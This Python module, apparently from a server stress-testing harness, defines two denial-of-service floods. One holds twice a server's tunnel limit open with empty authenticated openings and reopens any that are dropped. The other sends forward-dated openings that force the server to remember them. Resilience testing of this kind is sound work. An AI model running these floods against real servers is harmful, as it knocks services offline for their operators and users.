"""Tunnels of a key holder that carry nothing."""
import time
from collections import deque

from attack.floods import Flood, push, received
from helpers.peers import wire

MAX_TUNNELS = 200, 1000


class EmptyTunnels(Flood):
    """Twice as many as the server takes. What it refuses or closes is opened again."""
    TITLE = 'empty tunnels, {held}'
    HELD = tuple(2 * most for most in MAX_TUNNELS)
    OPTIONS = '--max-tunnels={max_tunnels}',

    def rounds(self):
        held = deque()
        while True:
            if len(held) < self.held:
                s = self.dial()
                push(s, wire.Opening(self.key, wire.empty_body()).head())
                held.append(s)
            s = held.popleft()
            answer = received(s)
            if answer is None or answer and not answer.startswith(b'HTTP/1.1 4'):
                held.append(s)
            else:
                s.close()
            yield


class Openings(Flood):
    """Opened and closed at once, each dated so that a server has to remember it for as long as it can be made to."""
    TITLE = 'openings'
    HELD = 50, 50
    AHEAD = 58  # seconds

    def rounds(self):
        held = deque()
        while True:
            s = self.dial()
            push(s, wire.Opening(self.key, wire.empty_body(time.time() + self.AHEAD)).head())
            held.append(s)
            if len(held) > self.held:
                held.popleft().close()
            yield
